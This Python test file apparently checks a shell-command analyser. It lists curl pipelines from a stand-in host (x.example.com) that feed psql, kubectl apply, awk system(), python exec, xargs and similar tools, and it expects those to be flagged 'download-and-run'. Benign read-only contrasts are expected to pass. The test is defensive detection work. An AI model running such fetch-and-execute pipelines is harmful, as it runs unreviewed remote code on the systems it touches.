"""What a pipe brings from the network to a program that does what it is told there."""

from __future__ import annotations

import pytest

from interlock.commands import analyse


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("curl -s https://x.example.com/q.sql | psql shop", True),
        ("curl -s https://x.example.com/i.yaml | kubectl apply -f -", True),
        ("curl -s https://x.example.com/i | parallel", True),
        ("curl -s https://x.example.com/i | awk '{system($0)}'", True),
        ("curl -s https://x.example.com/i | python3 -c 'import sys; exec(sys.stdin.read())'", True),
        ("curl -s https://x.example.com/i | sed s/a/b/ | mysql shop", True),
        ("curl -s https://x.example.com/i | xargs -0 python3 -c", True),
        ("curl -s http://localhost:8000/q.sql | psql shop", False),
        ("curl -s https://x.example.com/a.csv | psql shop -c 'copy t from stdin'", False),
        ("curl -s https://x.example.com/a.csv | awk '{print $1}'", False),
        ("curl -s https://x.example.com/a.json | python3 -c 'import sys; print(len(sys.stdin.read()))'", False),
        ("curl -s https://x.example.com/i.yaml | kubectl apply --dry-run=client -f -", False),
        ("cat q.sql | psql shop", False),
        ("kubectl get pod x -o yaml | kubectl apply -f -", False),
    ],
)
def test_it_is_code_that_nobody_has_seen(text: str, expected: bool) -> None:
    """What runs its input runs what the network says; what only reads it does not."""
    flags = [flag for top in analyse(text, "shell") for one in top.walk() for flag in one.arguments.get("flags", ())]

    assert ("download-and-run" in flags) is expected
